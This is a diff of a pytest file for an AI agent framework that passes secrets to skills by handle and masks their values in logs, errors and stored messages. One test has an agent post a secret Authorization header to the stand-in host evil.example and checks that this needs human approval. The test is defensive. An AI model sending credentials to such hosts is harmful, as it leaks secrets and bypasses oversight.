@@ -1,11 +1,11 @@
-"""Secrets by handle: a skill gets the value, and nobody else sees more than the handle."""
+"""Secrets by handle: only the skill sees the value."""
 
 import json
 import logging
 
 import pytest
 
-from agents.builtin_skills.outside import http_request
+from agents.builtin_skills.web import http_request
 from agents.engine.skills import SkillExecutor
 from agents.enums import Outcome, Phase, Status, ToolIntent
 from agents.guard import guarded_tool_call
@@ -57,7 +57,7 @@ def everything(session):
     return str([*rows, *SkillAudit.objects.values(), *Message.objects.values()])
 
 
-def test_skill_gets_the_value_and_whatever_shows_of_it_is_masked(session):
+def test_skill_receives_the_secret_and_its_output_is_masked(session):
     result = ask(session, "sign", text="hello", key_="x", token=HANDLE)
 
     assert result.outcome == Outcome.SUCCESS
@@ -67,7 +67,7 @@ def test_skill_gets_the_value_and_whatever_shows_of_it_is_masked(session):
     assert "zq81" not in everything(session)
 
 
-def test_error_of_a_skill_does_not_show_the_value(session, caplog):
+def test_error_of_a_skill_does_not_show_the_secret(session, caplog):
     with caplog.at_level(logging.DEBUG):
         failed = ask(session, "sign", text="fail", token=HANDLE)
     assert (failed.outcome, failed.data) == (Outcome.ERROR, None)
@@ -76,7 +76,7 @@ def test_error_of_a_skill_does_not_show_the_value(session, caplog):
 
 
 @pytest.mark.parametrize("isolated", ["sign_apart"])
-def test_skill_in_a_process_of_its_own_gets_it_too(session, monkeypatch, isolated):
+def test_skill_with_process_isolation_receives_the_secret(session, monkeypatch, isolated):
     monkeypatch.setenv("LQOPS_SKILL_MODULES", "tests.agents.skills.samples")
     result = ask(session, isolated, token=HANDLE)
     assert (result.outcome, result.data) == (Outcome.SUCCESS, len(VALUE))
@@ -88,13 +88,13 @@ def test_skill_in_a_process_of_its_own_gets_it_too(session, monkeypatch, isolate
         ("sign", {"text": "x", "token": {"$secret": "nothing"}}, "there is no secret 'nothing'"),
         ("sign", {"text": "x", "token": {"$secret": "shop", "more": 1}}, "there is no secret 'shop'; a handle is"),
         ("sign", {"text": "x", "token": {"$secret": 5}}, "there is no secret '5'"),
-        ("sign", {"text": HANDLE, "token": HANDLE}, "text takes no secret; a handle may stand in headers, token"),
+        ("sign", {"text": HANDLE, "token": HANDLE}, "text takes no secret; a handle is allowed in headers, token"),
         ("echo", {"text": HANDLE}, "text takes no secret; no argument of this skill does"),
         ("http_request", {"method": "POST", "url": "https://shop.example/", "data": {"a": [HANDLE]}}, "data takes no"),
         ("http_request", {"method": "POST", "url": HANDLE}, "url takes no secret"),
     ],
 )
-def test_handle_that_names_nothing_or_stands_elsewhere_is_refused_with_a_reason(session, name, arguments, words):
+def test_unknown_or_misplaced_handle_is_refused(session, name, arguments, words):
     with pytest.raises(BadArguments, match=words):
         installed_skills()[name].arguments(arguments)
     call = parse_skill_calls(f"<skill>{name}({', '.join(f'{k}={v!r}' for k, v in arguments.items())})</skill>")[0]
@@ -103,13 +103,13 @@ def test_handle_that_names_nothing_or_stands_elsewhere_is_refused_with_a_reason(
     assert not ToolCall.objects.exists()
 
 
-def test_known_names_are_told_and_no_values():
-    with pytest.raises(BadArguments, match="known are: crm, shop") as refused:
+def test_refusal_lists_secret_names_but_no_values():
+    with pytest.raises(BadArguments, match="known names: crm, shop") as refused:
         installed_skills()["sign"].arguments({"text": "x", "token": {"$secret": "nothing"}})
     assert "zq81" not in str(refused.value)
 
 
-def test_handle_stays_in_the_canonical_arguments_wherever_a_text_may_stand():
+def test_canonical_arguments_keep_handles():
     given = {"text": "x", "token": HANDLE, "headers": {"A": HANDLE, "B": "plain"}}
     taken = installed_skills()["sign"].arguments(given)
     assert taken == {**given, "key_": ""}
@@ -117,7 +117,7 @@ def test_handle_stays_in_the_canonical_arguments_wherever_a_text_may_stand():
     assert not holds_handle({"a": [1, "b", {"c": None}]})
 
 
-def test_model_is_told_where_a_handle_may_stand_and_what_secrets_there_are(settings):
+def test_schema_shows_where_handles_are_allowed(settings):
     parts = http_request.parameters["properties"]
     assert "$secret" in json.dumps(parts["headers"])
     assert '"enum": ["crm", "shop"]' in json.dumps(parts["headers"])
@@ -127,7 +127,7 @@ def test_model_is_told_where_a_handle_may_stand_and_what_secrets_there_are(setti
     assert "$secret" not in json.dumps(http_request.offer)
 
 
-def test_handle_may_stand_wherever_a_schema_has_a_text():
+def test_schema_allows_handles_wherever_it_has_a_string():
     lists = {"type": "array", "items": {"type": "string"}}
     odd = {"type": "object", "additionalProperties": False}
     told = with_handles({"properties": {"a": lists, "b": odd, "c": {"type": "string"}}}, ("a", "b"))
@@ -135,7 +135,7 @@ def test_handle_may_stand_wherever_a_schema_has_a_text():
     assert (told["properties"]["b"], told["properties"]["c"]) == (odd, {"type": "string"})
 
 
-def test_secret_goes_to_a_place_that_nobody_allowed_only_with_a_yes_even_in_auto(session, approver, settings):
+def test_secret_to_an_unlisted_host_needs_approval_even_in_auto(session, approver, settings):
     settings.LQOPS_SKILL_HOSTS = ["shop.example"]
     headers = {"Authorization": HANDLE}
     asked = ask(session, "post", url="https://evil.example/", headers=headers)
@@ -148,7 +148,7 @@ def test_secret_goes_to_a_place_that_nobody_allowed_only_with_a_yes_even_in_auto
 
 
 @pytest.mark.django_db(transaction=True)
-def test_header_goes_out_with_the_value_and_comes_back_masked(session, approver, settings):
+def test_header_is_sent_with_the_secret_and_recorded_masked(session, approver, settings):
     settings.LQOPS_NET_ALLOW_NETWORKS = ["127.0.0.1/32"]
     server = Server(_echo)
     try:
@@ -171,7 +171,7 @@ def _echo(connection, request):
     connection.sendall(head.encode() + body)
 
 
-def test_declaration_names_arguments_that_there_are_and_asks_no_model():
+def test_declaration_of_secret_arguments_is_checked():
     with pytest.raises(BadSkill, match="has no argument token"):
 
         @skill(secret_arguments=("token",))
@@ -179,7 +179,7 @@ def test_declaration_names_arguments_that_there_are_and_asks_no_model():
             """One."""
             return text
 
-    with pytest.raises(BadSkill, match="takes no secrets"):
+    with pytest.raises(BadSkill, match="cannot take secrets"):
 
         @skill(secret_arguments=("text",), request=lambda given: ModelRequest("m", ()))
         def two(text: str) -> str:
